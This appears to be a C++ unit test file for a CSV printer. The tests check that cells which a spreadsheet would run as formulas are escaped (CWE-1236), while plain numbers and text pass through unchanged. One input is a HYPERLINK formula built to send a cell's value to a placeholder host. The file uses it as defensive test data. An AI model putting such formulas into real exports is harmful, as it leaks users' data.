#include "apps/print.h"

#include <gtest/gtest.h>

namespace iml {
namespace {

std::string Printed(bool excel, const Row& row) {
  testing::internal::CaptureStdout();
  Csv(excel).Print(row);
  return testing::internal::GetCapturedStdout();
}

// A spreadsheet takes such a cell for a formula, and names come from anybody (CWE-1236).
TEST(Csv, MakesTextOfWhatASpreadsheetWouldTakeForAFormula) {
  EXPECT_EQ(Printed(false, {"=1+1", "+33 6 Toits", "-2+3 Logis", "@SUM(A1:A9)", "-"}),
            "'=1+1,'+33 6 Toits,'-2+3 Logis,'@SUM(A1:A9),'-\n");
  EXPECT_EQ(Printed(false, {"=HYPERLINK(\"http://exemple.invalid/?x=\"&A1,\"Ouvrir\")"}),
            "\"'=HYPERLINK(\"\"http://exemple.invalid/?x=\"\"&A1,\"\"Ouvrir\"\")\"\n");
  EXPECT_EQ(Printed(false, {"\t=1", "\r=1"}), "'\t=1,\"'\r=1\"\n");
}
TEST(Csv, LeavesNumbersAndWordsAsTheyAre) {
  EXPECT_EQ(Printed(false, {"-12", "+33", "-12.5", "Toits & Co", "", "2022-12-31"}),
            "-12,+33,-12.5,Toits & Co,,2022-12-31\n");
  EXPECT_EQ(Printed(false, {"a,b", "a\"b", "a\nb", "a;b"}), "\"a,b\",\"a\"\"b\",\"a\nb\",a;b\n");
}
TEST(Csv, OpensInAFrenchSpreadsheetByADoubleClick) {
  EXPECT_EQ(Printed(true, {"Privé", "-12,5", "=1"}),
            "\xEF\xBB\xBF"
            "Privé;-12,5;'=1\n");
}

}  // namespace
}  // namespace iml
